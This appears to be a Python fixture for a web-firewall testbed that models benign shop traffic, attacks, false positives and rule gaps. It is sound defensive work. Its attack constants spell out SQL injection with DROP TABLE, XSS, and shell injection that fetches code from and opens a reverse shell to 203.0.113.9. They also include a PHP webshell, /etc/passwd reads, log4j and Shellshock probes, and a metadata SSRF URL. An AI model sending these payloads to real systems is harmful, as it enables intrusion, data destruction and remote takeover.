"""The requests that generated traffic is made of, as data: plain use, plain attacks, and what can be planted.

Every benign shape is let through, and every attack stopped, by both generations at the settings that the
migration carries over; only planted shapes tell them apart. tests/service/test_events_verdicts.py holds this.
"""

from functools import cache
from urllib.parse import quote_plus

from edgeshift.testbed.simulator.fleet_models import FalsePositive, Gap
from edgeshift.testbed.simulator.signatures import Shape


def _form(**values: str) -> str:
    return "&".join(f"{name}={quote_plus(value)}" for name, value in values.items())


_SQLI = "1' OR 1=1 UNION SELECT concat(user,char(58)) FROM information_schema.tables WHERE sleep(5)-- "
_SQLI_STACKED = (
    "1' or '1'='1'; DROP TABLE users; SELECT sleep(9) FROM sysobjects WHERE 2=2 AND if(1=1,concat(1,2),0)-- "
)
_XSS = "\"><script>alert(document.cookie);eval(atob('eA=='))</script><img src=x onerror=alert(1)>"
_XSS_SVG = (
    "'/><svg onload=eval(String.fromCharCode(97))><script>document.write(1)</script>"
    "<a href=javascript:alert(1)>"
)
_SHELL = ";cat /etc/passwd;chmod 777 /bin/sh;wget http://203.0.113.9/x>/tmp/x;python -c $(id)"
_SHELL_FETCH = "|curl http://203.0.113.9/m;bash -i >/dev/tcp/203.0.113.9/1;chmod +x /bin/sh;perl -e $(x)"
_PHP = (
    "<?php system(base64_decode($_POST['c'])); ?>;wget http://203.0.113.9/a>/tmp/a;cat php://input;"
    "chmod 777 /bin/sh"
)
_FILE = "../../../../etc/passwd\x00;cat ../.htaccess;file:///etc/passwd >/tmp/x;wget http://203.0.113.9/x"

BENIGN: tuple[Shape, ...] = (
    Shape("home", "benign", "GET", "/", weight=30),
    Shape("style", "benign", "GET", "/assets/site.css", "v=20231107", weight=20),
    Shape("script", "benign", "GET", "/assets/app.js", "v=20231107", weight=20),
    Shape("picture", "benign", "GET", "/images/teapot-480.webp", weight=25),
    Shape("search", "benign", "GET", "/search", _form(q="blue tea pot", page="2"), weight=12),
    Shape(
        "category", "benign", "GET", "/shop/kitchen", _form(sort="price", order="asc", page="3"), weight=12
    ),
    Shape("product", "benign", "GET", "/shop/kitchen/teapot-12", weight=18),
    Shape("cart", "benign", "POST", "/cart", body=_form(product="12", count="2"), weight=6),
    Shape(
        "login",
        "benign",
        "POST",
        "/login",
        body=_form(email="ann@example.com", password="correct horse 7"),
        weight=4,
    ),
    Shape(
        "comment",
        "benign",
        "POST",
        "/comments",
        body=_form(name="Ann O'Neill", text="Lovely pot, thanks!"),
        weight=3,
    ),
    Shape(
        "contact",
        "benign",
        "POST",
        "/contact",
        body=_form(subject="Order 4711", text="When will it come?"),
        weight=2,
    ),
    Shape(
        "feed", "benign", "GET", "/feed.xml", agent="FeedFetcher/2.1 (+https://feeds.example/about)", weight=4
    ),
    Shape("health", "benign", "GET", "/healthz", agent="uptime-check/1.4", weight=8),
    Shape("api-list", "benign", "GET", "/api/v1/orders", _form(since="2023-10-01", limit="50"), weight=8),
    Shape(
        "api-create", "benign", "POST", "/api/v1/orders", body=_form(product="12", currency="EUR"), weight=4
    ),
    Shape(
        "robots", "benign", "GET", "/robots.txt", agent="Mozilla/5.0 (compatible; searchbot/2.1)", weight=3
    ),
)

ATTACKS: tuple[Shape, ...] = (
    Shape("sqli", "attack", "GET", "/shop/item", _form(id=_SQLI, ref=_SQLI), weight=10),
    Shape(
        "sqli-stacked",
        "attack",
        "POST",
        "/login",
        body=_form(email=_SQLI_STACKED, password=_SQLI_STACKED),
        weight=8,
    ),
    Shape("xss", "attack", "GET", "/search", _form(q=_XSS, back=_XSS), weight=10),
    Shape("xss-svg", "attack", "POST", "/comments", body=_form(name=_XSS_SVG, text=_XSS_SVG), weight=6),
    Shape("shell", "attack", "GET", "/api/v1/ping", _form(host=_SHELL, name=_SHELL), weight=7),
    Shape(
        "shell-fetch",
        "attack",
        "POST",
        "/api/v1/convert",
        body=_form(file=_SHELL_FETCH, to=_SHELL_FETCH),
        weight=6,
    ),
    Shape("php", "attack", "POST", "/upload.php", body=_form(file=_PHP, name=_PHP), weight=6),
    Shape("traversal", "attack", "GET", "/download", _form(file=_FILE, inline=_FILE), weight=8),
    Shape("log4j", "attack", "GET", "/", _form(q="${jndi:ldap://203.0.113.9/a}"), weight=5),
    Shape("shellshock", "attack", "GET", "/status", agent="() { :; }; echo vulnerable", weight=2),
    Shape(
        "metadata",
        "attack",
        "GET",
        "/preview",
        _form(url="http://169.254.169.254/latest/meta-data/"),
        weight=3,
    ),
    Shape("repository", "attack", "GET", "/.git/config", weight=9),
    Shape("backup", "attack", "GET", "/backup.sql", weight=5),
    Shape("webshell", "attack", "GET", "/uploads/wso.php", weight=3),
)

_RICH = (
    '<div class="intro"><h2>Autumn</h2><p style="margin:0">Tea &amp; cake at <a href="/shop">our shop</a></p>'
    "</div>"
)
_ARTICLE = (
    "To count orders: SELECT count(id) FROM `orders` JOIN `users` ON 'a', WHERE total = 5 "
    "GROUP BY city ORDER BY city"
)
_MANUAL = "Run sudo apt update, then git clone $HOME_DIR --depth=1 | tee log and ./install --verbose"
_THEME = (
    '{% for item in items %}<li class="row">{{ item.name | escape }}</li>{% endfor %}'
    ' &nbsp; <a href="/">x</a>'
)

FALSE_POSITIVES: dict[FalsePositive, tuple[str, str]] = {
    "rich_text": ("Mozilla/5.0 (editor)", _form(summary=_RICH, text=_RICH, footer=_RICH)),
    "sql_in_text": ("Mozilla/5.0 (editor)", _form(summary=_ARTICLE, text=_ARTICLE, example=_ARTICLE)),
    "shell_in_text": ("Mozilla/5.0 (editor)", _form(summary=_MANUAL, text=_MANUAL, example=_MANUAL)),
    "template_editor": ("Mozilla/5.0 (editor)", _form(theme=_THEME, mail=_THEME, page=_THEME)),
}
"""What a planted false positive sends: user agent and form."""

_SPAM = "cheap casino viagra http://spam.example [url=http://a.example]x[/url] [url=http://b.example]y[/url]"
GAPS: dict[Gap, tuple[str, str, str, str, str]] = {
    "cms_plugin_probe": (
        "GET",
        "/wp-content/plugins/thumbs/timthumb.php",
        "src=http%3A%2F%2F203.0.113.9%2Fx.php",
        "",
        "",
    ),
    "comment_spam": (
        "POST",
        "/guestbook",
        "",
        _form(name=_SPAM, email=_SPAM, site=_SPAM, text=_SPAM),
        "",
    ),
    "email_harvester": ("GET", "/about/team", "", "", "EmailCollector/1.0"),
    "legacy_cgi": ("GET", "/cgi-bin/awstats.pl", "configdir=x", "", ""),
}
"""What a planted gap sends: method, path, query, form, user agent."""


@cache
def false_positive(kind: FalsePositive, path: str) -> Shape:
    """Legitimate requests that only the new rules stop."""
    agent, body = FALSE_POSITIVES[kind]
    return Shape(f"false positive {kind}", "false_positive", "POST", path, body=body, agent=agent)


@cache
def gap(kind: Gap, path: str | None) -> Shape:
    """Attacks that only the previous rules stop."""
    method, own_path, query, body, agent = GAPS[kind]
    return Shape(f"gap {kind}", "gap", method, path or own_path, query, body, agent)
